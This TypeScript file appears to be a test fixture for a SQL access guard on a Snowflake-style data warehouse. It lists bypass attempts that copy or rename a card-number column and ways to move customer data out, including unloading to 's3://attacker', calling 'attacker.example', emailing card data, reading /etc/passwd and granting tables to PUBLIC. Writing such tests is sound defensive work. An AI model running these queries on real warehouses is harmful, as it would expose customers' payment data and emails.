import { attempts } from './attempt.ts';

/** Copy first, read the copy. */
export const laundering = attempts('laundering', {
  'CREATE TABLE AS': [
    'CREATE TABLE STOLEN AS SELECT ID, CARD_NUMBER AS X FROM CUSTOMERS',
    'SELECT X FROM STOLEN LIMIT 5',
  ],
  'CREATE TEMPORARY TABLE AS': [
    'CREATE TEMPORARY TABLE STOLEN AS SELECT CARD_NUMBER AS X FROM CUSTOMERS',
    'SELECT X FROM STOLEN LIMIT 5',
  ],
  'INSERT SELECT': [
    'CREATE TABLE STOLEN2 (ID NUMBER, X VARCHAR)',
    'INSERT INTO STOLEN2 SELECT ID, CARD_NUMBER FROM CUSTOMERS',
    'SELECT X FROM STOLEN2 LIMIT 5',
  ],
  CLONE: ['CREATE TABLE STOLEN3 CLONE CUSTOMERS', 'SELECT CARD_NUMBER FROM STOLEN3 LIMIT 5'],
  'CREATE VIEW': [
    'CREATE VIEW STOLEN4 AS SELECT CARD_NUMBER AS X FROM CUSTOMERS',
    'SELECT X FROM STOLEN4 LIMIT 5',
  ],
  'UPDATE a harmless column': [
    'UPDATE CUSTOMERS SET CITY = CARD_NUMBER WHERE ID < 5',
    'SELECT CITY FROM CUSTOMERS WHERE ID < 5',
  ],
  'UPDATE FROM': [
    'UPDATE ORDERS SET STATUS = c.CARD_NUMBER FROM CUSTOMERS c WHERE c.ID = ORDERS.CUSTOMER_ID',
    'SELECT STATUS FROM ORDERS LIMIT 5',
  ],
  MERGE: [
    'MERGE INTO ORDERS o USING CUSTOMERS c ON o.CUSTOMER_ID = c.ID WHEN MATCHED THEN UPDATE SET STATUS = c.EMAIL',
    'SELECT STATUS FROM ORDERS LIMIT 5',
  ],
  'renamed column': [
    'ALTER TABLE CUSTOMERS RENAME COLUMN CARD_NUMBER TO X',
    'SELECT X FROM CUSTOMERS LIMIT 5',
  ],
  'renamed table': ['ALTER TABLE CUSTOMERS RENAME TO STOLEN5', 'SELECT CARD_NUMBER FROM STOLEN5 LIMIT 5'],
  'swapped table': ['ALTER TABLE CUSTOMERS SWAP WITH ORDERS', 'SELECT * FROM ORDERS LIMIT 5'],
  'a session variable': ['SET v = (SELECT MAX(CARD_NUMBER) FROM CUSTOMERS)', 'SELECT $v'],
  'a session variable, two steps': [
    'SET v = (SELECT MAX(EMAIL) FROM CUSTOMERS)',
    'SET w = $v',
    'SELECT $w AS HARMLESS',
  ],
  'the last result': [
    'SELECT CARD_NUMBER AS X FROM CUSTOMERS LIMIT 5',
    'SELECT X FROM TABLE(RESULT_SCAN(LAST_QUERY_ID()))',
  ],
  'the flow operator': 'SELECT CARD_NUMBER AS X FROM CUSTOMERS LIMIT 5 ->> SELECT X FROM $1',
  'multi-table INSERT': [
    'CREATE TABLE STOLEN6 (X VARCHAR)',
    'INSERT ALL INTO STOLEN6 (X) VALUES (CARD_NUMBER) SELECT CARD_NUMBER FROM CUSTOMERS',
    'SELECT X FROM STOLEN6 LIMIT 5',
  ],
  'time travel': 'SELECT CARD_NUMBER AS X FROM CUSTOMERS AT (OFFSET => -60) LIMIT 5',
});

/** Out of the warehouse by another door. */
export const exports_ = attempts('exports', {
  'unload to a stage': 'COPY INTO @~/out FROM CUSTOMERS',
  'unload a query': 'COPY INTO @~/out FROM (SELECT CARD_NUMBER FROM CUSTOMERS) FILE_FORMAT = (TYPE = CSV)',
  'unload to a bucket':
    "COPY INTO 's3://attacker/out' FROM CUSTOMERS CREDENTIALS = (AWS_KEY_ID = 'a' AWS_SECRET_KEY = 'b')",
  'GET the file': 'GET @~/out file:///tmp/out',
  'PUT a file': 'PUT file:///etc/passwd @~',
  'unload a part of it': 'COPY INTO @~/out FROM (SELECT LEFT(CARD_NUMBER, 6) FROM CUSTOMERS)',
  'read a stage': 'SELECT $1 FROM @~/out',
  'read a stage file by name': "SELECT $1 FROM '@~/out'",
  'create a stage': "CREATE STAGE S URL = 's3://attacker/'",
  'create a share': 'CREATE SHARE S',
  'add the table to a share': 'GRANT SELECT ON TABLE CUSTOMERS TO SHARE S',
  'grant to public': 'GRANT SELECT ON TABLE CUSTOMERS TO ROLE PUBLIC',
  'create a task': "CREATE TASK T SCHEDULE = '1 MINUTE' AS COPY INTO @~/out FROM CUSTOMERS",
  'create a stream': 'CREATE STREAM S ON TABLE CUSTOMERS',
  'external function':
    "CREATE EXTERNAL FUNCTION F(X VARCHAR) RETURNS VARIANT API_INTEGRATION = I AS 'https://attacker.example/'",
  'mail it':
    "CALL SYSTEM$SEND_EMAIL('i', 'a@attacker.example', 's', (SELECT MAX(CARD_NUMBER) FROM CUSTOMERS))",
  'presigned URL': "SELECT GET_PRESIGNED_URL(@~, 'out')",
  'scoped file URL': "SELECT BUILD_SCOPED_FILE_URL(@~, 'out')",
  'explain shows filters': "EXPLAIN SELECT CARD_NUMBER FROM CUSTOMERS WHERE CARD_NUMBER LIKE '4%'",
});
